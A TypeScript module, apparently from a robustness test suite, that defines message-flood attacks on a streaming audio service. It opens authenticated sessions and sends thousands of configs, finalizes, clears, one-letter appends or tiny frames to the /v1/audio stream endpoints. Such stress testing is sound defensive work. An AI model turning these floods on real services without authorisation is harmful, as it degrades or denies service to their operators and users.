import { openStream } from "../../support/service/stream-client.ts";
import { type Attack, sessions, type Victim } from "../attack.ts";

type Message = Readonly<Record<string, unknown>>;

async function flood(
  victim: Victim,
  path: string,
  count: number,
  message: (at: number) => Message | Buffer,
  first: Message = { type: "keepalive" },
): Promise<void> {
  const floodAs = async (credential: string): Promise<void> => {
    using client = await openStream(victim.url, { path, credential });
    client.say(first);
    for (let at = 0; at < count; at += 1) {
      const said = message(at);
      if (Buffer.isBuffer(said)) client.socket.send(said);
      else client.say(said);
    }
    client.say({ type: "end" });
    await client.closed();
  };
  await Promise.allSettled((await sessions(victim, 2)).map(floodAs));
}

const LIVE = "/v1/audio/stream";
const SPEECH = "/v1/audio/speech/stream";
const speaking = { type: "config", voice: "ayla" };

export const configFlood: Attack = {
  item: "A.1",
  name: "200 configs of odd sample rates on a socket",
  strike: (victim) =>
    flood(victim, LIVE, 200, (at) => ({ type: "config", sample_rate: 47_999 - 2 * at })),
};

export const finalizeFlood: Attack = {
  item: "A.1",
  name: "5,000 finalizes at 44.1 kHz",
  strike: (victim) =>
    flood(victim, LIVE, 5000, () => ({ type: "finalize" }), {
      type: "config",
      sample_rate: 44_100,
    }),
};

export const clearFlood: Attack = {
  item: "A.1",
  name: "10,000 clears of speech",
  strike: (victim) => flood(victim, SPEECH, 10_000, () => ({ type: "text.clear" }), speaking),
};

export const letterFlood: Attack = {
  item: "A.1",
  name: "5,000 texts of one letter",
  strike: (victim) =>
    flood(victim, SPEECH, 5000, () => ({ type: "text.append", text: "a" }), speaking),
};

const FRAME = Buffer.alloc(2);

export const smallFrames: Attack = {
  item: "A.9",
  name: "100,000 frames of 2 bytes",
  strike: (victim) => flood(victim, LIVE, 100_000, () => FRAME),
};
